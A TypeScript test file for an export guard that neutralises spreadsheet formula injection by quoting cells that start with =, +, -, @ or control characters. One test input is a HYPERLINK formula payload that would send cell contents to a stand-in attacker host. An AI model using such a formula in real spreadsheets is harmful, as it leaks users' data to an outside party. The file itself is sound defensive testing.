import ExcelJS from 'exceljs';
import { cellText } from './first-sheet.exceljs.js';
import { safeCell, safeCellText, safeRow, unquoteCellText } from './formula-text.js';

describe('formula text in exports (issue 31 item 14)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', `'=HYPERLINK("http://evil.example/?d="&A1,"点我")`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1,1)', "'@SUM(1,1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\0x', "'\0x"],
    ['-', "'-"],
    ['=', "'="],
  ])('quotes text that would start a formula: %p', (text, written) => {
    expect(safeCellText(text)).toBe(written);
    expect(safeCellText(text)).not.toMatch(/^[=+\-@\t\r\0]/);
    // and the quote comes off again when the sheet is imported
    expect(unquoteCellText(written)).toBe(text);
  });

  it.each(['就业率', '85%', '001', 'a=b', ' =1+1', '', "'quoted", "''=x"])('leaves other text as it is: %p', (text) => {
    expect(safeCellText(text)).toBe(text);
    expect(unquoteCellText(text)).toBe(text);
  });

  it.each(['-2', '+3', '-2.5', '-.5', '+1e3', '-1E-3', '-85%'])('leaves text that is exactly a number as it is: %p', (text) => {
    expect(safeCellText(text)).toBe(text);
  });

  it('leaves cells that are not text (a number typed as a number, a date, empty) as they are', () => {
    const date = new Date(2026, 0, 1);
    expect(safeCell(-2)).toBe(-2);
    expect(safeCell(date)).toBe(date);
    expect(safeCell(null)).toBeNull();
    expect(safeRow(['-2+3', -2, '名称', '@SUM(1,1)'])).toEqual(["'-2+3", -2, '名称', "'@SUM(1,1)"]);
  });

  it('reads back through exceljs as text that does not start a formula, and imports as typed', async () => {
    const workbook = new ExcelJS.Workbook();
    const ws = workbook.addWorksheet('s');
    ws.addRow(safeRow(['=HYPERLINK("http://x")', '+1+1', '-2+3', '@SUM(1,1)', -2]));
    const again = new ExcelJS.Workbook();
    await again.xlsx.load((await workbook.xlsx.writeBuffer()) as ArrayBuffer);
    const row = again.worksheets[0]!.getRow(1);
    expect([1, 2, 3, 4].map((i) => row.getCell(i).value)).toEqual(["'=HYPERLINK(\"http://x\")", "'+1+1", "'-2+3", "'@SUM(1,1)"]);
    expect([1, 2, 3, 4].map((i) => row.getCell(i).type)).toEqual(Array(4).fill(ExcelJS.ValueType.String));
    expect(row.getCell(5).value).toBe(-2);
    expect([1, 2, 3, 4, 5].map((i) => cellText(row.getCell(i)))).toEqual(['=HYPERLINK("http://x")', '+1+1', '-2+3', '@SUM(1,1)', '-2']);
  });
});
